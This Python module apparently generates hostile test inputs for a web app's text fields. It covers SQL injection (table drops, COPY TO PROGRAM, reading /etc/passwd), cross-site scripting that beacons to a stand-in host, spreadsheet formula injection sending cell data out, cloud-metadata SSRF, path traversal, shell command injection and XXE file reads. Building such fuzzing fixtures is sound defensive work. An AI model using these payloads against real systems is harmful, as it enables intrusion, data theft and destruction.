"""
Hostile texts, made by putting parts together: for every field that takes text.

Each payload that could do something does it under the name `MARK`, so that a test can tell what it
did from what the program does by itself. `OUTSIDE` is a host that nobody may ask for anything.
"""
# ruff: noqa: E501 - a payload stays whole

from __future__ import annotations

import base64
import itertools
from collections.abc import Iterator
from functools import cache
from typing import Final
from urllib.parse import quote

__all__ = [
    "ALL", "FORMULAS", "MARK", "OUTSIDE", "READABLE", "SQL", "STRANGE", "URLS", "XSS", "spread", "stored",
]  # fmt: skip

MARK: Final = "kvhit"
OUTSIDE: Final = "kvarter.invalid"
SECRET_FILES: Final = ("/etc/passwd", "/etc/hostname", "/proc/self/environ", "C:\\Windows\\win.ini")


def _unique(texts: Iterator[str]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(texts))


# --- SQL ------------------------------------------------------------------------------------------

CLOSERS: Final = (
    "'",
    '"',
    "')",
    "'))",
    "';",
    '";',
    "$$",
    "$kv$",
    "\\'",
    "''",
    "%27",
    "\u2019",
    "\u02bc",
)
COMMENTS: Final = ("--", "-- -", "/*", "#", ";--", "")
EFFECTS: Final = (
    "OR 1=1", "OR 'a'='a", "AND 1=0 UNION SELECT NULL", "UNION ALL SELECT name,NULL FROM team",
    "; DELETE FROM housing_area", "; UPDATE partner SET name='kvhit'", "; DROP TABLE inquiry CASCADE",
    "; TRUNCATE observation_point CASCADE", "; SET ROLE postgres", "; RESET ROLE",
    "; SELECT pg_sleep(9)", "; SELECT set_config('app.team_id','',true)",
    "; COPY (SELECT 1) TO PROGRAM 'touch /tmp/kvhit'", "; CREATE TABLE kvhit(a text)",
    "; ALTER TABLE partner NO FORCE ROW LEVEL SECURITY", "; GRANT ALL ON partner TO public",
    "|| (SELECT pg_read_file('/etc/passwd'))", "AND (SELECT 1 FROM pg_sleep(9)) IS NULL",
    "; DO $x$ BEGIN PERFORM pg_sleep(9); END $x$", "; ROLLBACK; BEGIN", "; COMMIT; DELETE FROM member",
    "RETURNING (SELECT current_user)", "ORDER BY (CASE WHEN 1=1 THEN 1 ELSE 1/0 END)",
)  # fmt: skip
PLACEHOLDERS: Final = (
    ":name", ":team", ":id::text", "%s", "%(name)s", "%(team)s; DROP TABLE team", "$1", "$2::uuid",
    "?", "{}", "{0}", "{team}", "%%", "%", "_", "\\", "\\x27", "E'\\047'", "U&'\\0027'",
    "chr(39)||chr(59)", "' || current_user || '", "jsonb '{}' -> 'a'", "{kvhit,NULL}", '{"a","b"}',
    "NULL", "null::text", "true", "NaN", "infinity", "POINT(0 0)", "SRID=4326;POINT(9 56)",
    "0101000020E6100000", "'::regclass", "pg_catalog.pg_class", "to_tsquery('a & b')", "a & !b | (c",
    "similar to '(a|b)'", "(?i)a{99999}", "[[:alpha:]", "*.*", "a**b",
)  # fmt: skip


@cache
def _sql() -> tuple[str, ...]:
    made = (
        f"x{closer} {effect}{' ' if comment else ''}{comment}"
        for effect, closer, comment in itertools.product(EFFECTS, CLOSERS, COMMENTS)
    )
    return _unique(itertools.chain(PLACEHOLDERS, itertools.islice(made, 0, None, 3)))


# --- markup ---------------------------------------------------------------------------------------

RUNS: Final = (
    f"window.{MARK}=1", f"parent.{MARK}=1", f"top['{MARK}']=1", f"alert('{MARK}')",
    f"fetch('http://{OUTSIDE}/{MARK}')", f"new Image().src='//{OUTSIDE}/{MARK}'",
)  # fmt: skip
TAGS: Final = (
    "<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<script/src=//{1}/{2}.js></script>",
    "<img src=x onerror={0}>", '<img src="x" onerror="{0}">', "<img/src/onerror={0}>",
    "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>",
    "<body onload={0}>", "<details open ontoggle={0}>", "<video><source onerror={0}>",
    "<input autofocus onfocus={0}>", "<marquee onstart={0}>", "<iframe src=javascript:{0}>",
    '<iframe srcdoc="<script>{0}</script>">', "<object data=javascript:{0}>", "<embed src=//{1}/{2}>",
    "<math><mi xlink:href=javascript:{0}>", "<link rel=stylesheet href=//{1}/{2}.css>",
    "<style>@import '//{1}/{2}';</style>", "<base href=//{1}/>", "<meta http-equiv=refresh content=0;url=//{1}>",
    "<form action=//{1}><button>{2}</button></form>", "<a href=javascript:{0}>{2}</a>",
    "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
)  # fmt: skip
BREAKS: Final = (
    '"><script>{0}</script>', "'><script>{0}</script>", '" onmouseover="{0}', "' onfocus='{0}' autofocus='",
    "</textarea><script>{0}</script>", "</title><script>{0}</script>", "--><script>{0}</script><!--",
    "]]><script>{0}</script>", "</script><script>{0}</script>", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    '";{0};//', "';{0};//", "`;{0};//", "${{{0}}}", "{{{{{0}}}}}", "{{{{constructor.constructor('{0}')()}}}}",
    "{{%- {0} -%}}", "#{{{0}}}", "<%= {0} %>", '{{"a":"</script><script>{0}</script>"}}',
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "data:text/html,<script>{0}</script>",
    "vbscript:{0}", "\u2028{0}\u2029", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
)  # fmt: skip
MARKDOWN: Final = (
    f"[{MARK}](javascript:alert(1))", f"[{MARK}](http://{OUTSIDE}/)", f"![{MARK}](http://{OUTSIDE}/{MARK}.png)",
    f"[{MARK}]: http://{OUTSIDE}/\n[{MARK}]", f"<http://{OUTSIDE}/{MARK}>", f"**{MARK}**", f"__{MARK}__",
    f"*{MARK}*", f"_{MARK}_", f"~~{MARK}~~", f"`{MARK}`", f"```\n{MARK}\n```", f"# {MARK}", f"{MARK}\n===",
    f"{MARK}\n---", f"> {MARK}", f"- {MARK}", f"* {MARK}", f"+ {MARK}", f"1. {MARK}", f"1) {MARK}",
    f"| a | b |\n| - | - |\n| {MARK} | c |", f"{MARK} | b\n--- | ---\n1 | 2", f"    {MARK}", f"- [ ] {MARK}",
    f":red[{MARK}]", f":red-background[{MARK}]", f":small[{MARK}]", f":blue-badge[{MARK}]", f":rainbow[{MARK}]",
    ":material/skull:", ":material/home: kvhit", ":streamlit: kvhit", ":fire: kvhit", ":+1: kvhit",
    f"${MARK}$", f"$$\\text{{{MARK}}}$$", "$\\href{javascript:alert(1)}{kvhit}$",
    f"\\[{MARK}\\]", f"&lt;b&gt;{MARK}&lt;/b&gt;", f"&#60;b&#62;{MARK}", "&amp; kvhit &copy; &nbsp;",
    "kvhit -> b <- c <-> d -- e >= f <= g ~= h", f"http://{OUTSIDE}/{MARK}", f"www.{OUTSIDE}/{MARK}",
    f"{MARK}  \nlinje", f"\\{MARK}", f"[^1] {MARK}\n[^1]: a", f"<b>{MARK}</b>", f"a\\*b\\_{MARK}",
)  # fmt: skip
STRANGE: Final = (
    f"\u202e{MARK}\u202c", f"\u2066{MARK}\u2069", f"{MARK}\u200b\u200d\ufeff", f"{MARK}\u0000\u0001\u001b[31m",
    f"{MARK}\ud83d", f"{MARK}\U000e0041", f"＜script＞{RUNS[0]}＜/script＞", f"‹script›{MARK}", f"﹤b﹥{MARK}",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G kvhit", f"{MARK}\uffff\ufdd0", f"{MARK}\r{MARK}\u0085{MARK}", f"{MARK}" + "\u0301" * 40,
    f"{MARK}" + "W" * 60, "👩‍👩‍👧‍👦 kvhit", f"\u0600{MARK}\u06dd", f"%3Cscript%3E{quote(RUNS[0])}%3C/script%3E",
)  # fmt: skip


@cache
def _xss() -> tuple[str, ...]:
    shapes = (*TAGS, *BREAKS)
    runs = itertools.cycle(RUNS)
    made = (
        shape.format(run, OUTSIDE, MARK) for shape in shapes for run in (next(runs), next(runs))
    )
    coded = (
        "data:text/html;base64," + base64.b64encode(f"<script>{RUNS[0]}</script>".encode()).decode()
    )
    return _unique(itertools.chain(made, [coded], MARKDOWN, STRANGE))


# --- formulas of spreadsheets ---------------------------------------------------------------------

SIGNS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "=+",
    "=-",
    "+-+",
    "==",
)
BEFORE: Final = ("", " ", "\u00a0", "'", '"', '";', ",", ";", "a,", "a;", 'a","')
CALLS: Final = (
    "cmd|'/C calc'!A0", "1+1+cmd|'/C calc'!A0", 'HYPERLINK("http://kvarter.invalid/?"&A1;"kvhit")',
    'WEBSERVICE("http://kvarter.invalid/"&A1)', "DDE(\"cmd\";\"/C calc\";\"kvhit\")", "SUM(1+9)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://kvarter.invalid/\";A1);\"//a\")", "1+1", "A1",
)  # fmt: skip
READABLE: Final = (
    "+45 nord for banen", "- ring først", "-5 grader", "@ kirken", "= det samme som sidst",
    "+1 time", "– pause", "'citat'", "a, b; c", "12-14, 16-18",
)  # fmt: skip
"""What people do write: it stays readable, and comes back from a file as it was."""


@cache
def _formulas() -> tuple[str, ...]:
    made = (
        f"{before}{sign}{call}" for call, sign, before in itertools.product(CALLS, SIGNS, BEFORE)
    )
    return _unique(itertools.chain(READABLE, itertools.islice(made, 0, None, 4)))


# --- addresses, paths, typesetting ----------------------------------------------------------------

SCHEMES: Final = (
    "file://{0}", "FILE:///{0}", "/vsicurl/http://{1}/a.gpkg", "/vsizip//vsicurl/http://{1}/a.zip",
    "/vsimem/{0}", "/vsisubfile/0_99,{0}", "\\\\{1}\\share\\a", "//{1}/{0}", "http://{1}/{2}",
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:5432/", "http://[::1]/", "gopher://{1}/_{2}",
    "ftp://{1}/{0}", "jar:http://{1}!/", "php://filter/resource={0}", "netdoc://{0}", "dict://{1}:11211/",
    "../../../..{0}", "..\\..\\..\\{2}", "....//....//{0}", "%2e%2e%2f%2e%2e%2f{2}", "~/{2}", "$(touch /tmp/{2})",
    "`touch /tmp/{2}`", "; touch /tmp/{2}", "| touch /tmp/{2}", "&& touch /tmp/{2}", "a\nContent-Type: text/html\n\n<b>",
    "--output={0}", "-o{0}", "@{0}", "con", "nul.txt", "a" * 200, "a/b/c", ".", "..", "", " ",
)  # fmt: skip
TYPST: Final = (
    '#import "{0}": *', '#read("{0}")', '#include "{0}"', '#image("{0}")', "#plugin(\"{0}\")", '#json("{0}")',
    '#eval("read(\\"{0}\\")")', "#panic({2})", "#set page(width: 1pt)", "#pagebreak()", "#let x = read(\"{0}\")",
    "#link(\"http://{1}\")[{2}]", "$ sum_(i=0)^{2} $", "*{2}*", "_{2}_", "= {2}", "- {2}", "+ {2}", "/ {2}: b",
    "`{2}`", "```typ {2}```", "<{2}>", "@{2}", "// {2}", "/* {2} */", "\\u{{41}}{2}", "~{2}--{2}...", "#{2}", "]#{2}[", "\")#read(\"{0}\")//",
    '<image href="file://{0}"/>', "<!DOCTYPE a [<!ENTITY x SYSTEM 'file://{0}'>]>&x;",
    "<xi:include href='{0}'/>", "{{page}} af {{pages}} {2}",
)  # fmt: skip


@cache
def _urls() -> tuple[str, ...]:
    files = itertools.cycle(SECRET_FILES)
    made = (shape.format(next(files), OUTSIDE, MARK) for shape in (*SCHEMES, *TYPST))
    return _unique(made)


SQL: Final = _sql()
XSS: Final = _xss()
FORMULAS: Final = _formulas()
URLS: Final = _urls()
ALL: Final = (*SQL, *XSS, *FORMULAS, *URLS)


def stored(text: str) -> str:
    """Return a payload as services keep it: letters that can be printed, on lines."""
    plain = "".join(" " if c.isspace() and c != "\n" else c for c in text.replace("\r\n", "\n"))
    return "".join(c for c in plain if c == "\n" or c.isprintable()).strip()


def spread(count: int) -> tuple[str, ...]:
    """Return so many payloads, evenly from each list."""
    lists = (SQL, XSS, FORMULAS, URLS)
    share = -(-count // len(lists))
    return tuple(one for texts in lists for one in texts[:: max(1, len(texts) // share)][:share])[
        :count
    ]
